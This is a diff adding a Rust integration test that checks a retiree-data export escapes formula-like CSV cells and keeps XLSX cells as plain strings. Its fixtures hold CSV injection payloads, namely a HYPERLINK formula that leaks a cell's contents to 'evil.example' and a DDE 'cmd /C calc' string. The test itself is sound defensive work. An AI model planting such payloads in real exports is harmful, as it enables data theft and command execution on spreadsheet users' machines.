@@ -282,6 +282,41 @@ both_backends! {
         assert_eq!(app.audit_count("retiree.export"), 7);
     }
 
+    async fn csv_cells_that_look_like_formulas_are_written_as_text(app: &TestApp) {
+        // OWASP CSV injection: a spreadsheet runs a cell starting with =, +, - or @ as a formula.
+        let mut body = retiree_body("350203001001", 1);
+        body["name"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")");
+        body["address"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+        body["notes"] = json!("-2+3");
+        app.create_retiree("city", &body).await;
+        let mut plain = retiree_body("350203001001", 2);
+        plain["name"] = json!("李四");
+        plain["notes"] = json!("'quoted a=b");
+        app.create_retiree("city", &plain).await;
+        let address = body["address"].as_str().unwrap();
+        let masked_address: String = address.chars().take(6).collect::<String>() + "****";
+        for (login, shown_address) in [("platform", address.to_owned()), ("city", masked_address)] {
+            let utf8 = export(app, "", login, &[]).await;
+            let gb = export(app, "?encoding=gb18030", login, &[]).await;
+            let (decoded, had_errors) = encoding_rs::GB18030.decode_without_bom_handling(&gb.body);
+            assert!(!had_errors);
+            for text in [utf8.utf8_text(), decoded.into_owned()] {
+                let rows = body_rows(parse_csv(&text));
+                assert_eq!(cell(&rows[0], "name"), format!("'{}", body["name"].as_str().unwrap()), "{login}");
+                assert_eq!(cell(&rows[0], "address"), format!("'{shown_address}"), "{login}: the shown address");
+                assert_eq!(cell(&rows[0], "notes"), "'-2+3", "{login}");
+                // Other cells are as stored.
+                assert_eq!(cell(&rows[1], "name"), "李四");
+                assert_eq!(cell(&rows[1], "notes"), "'quoted a=b");
+                assert_eq!(cell(&rows[1], "monthly_pension"), "3500.00");
+            }
+        }
+        // XLSX cells are strings, never formulas: they keep the value as it is.
+        let sheet = read_xlsx(&export(app, "?format=xlsx", "platform", &[]).await.body);
+        let column = COLUMNS.iter().position(|c| *c == "name").unwrap();
+        assert_eq!(sheet[1][column].as_deref(), body["name"].as_str());
+    }
+
     async fn exports_over_several_pages_hold_every_row_once(app: &TestApp) {
         let inserted = insert_many(app, 2_500 + 101);
         let expected: HashSet<&str> = inserted.iter().map(|(id, _)| id.as_str()).collect();
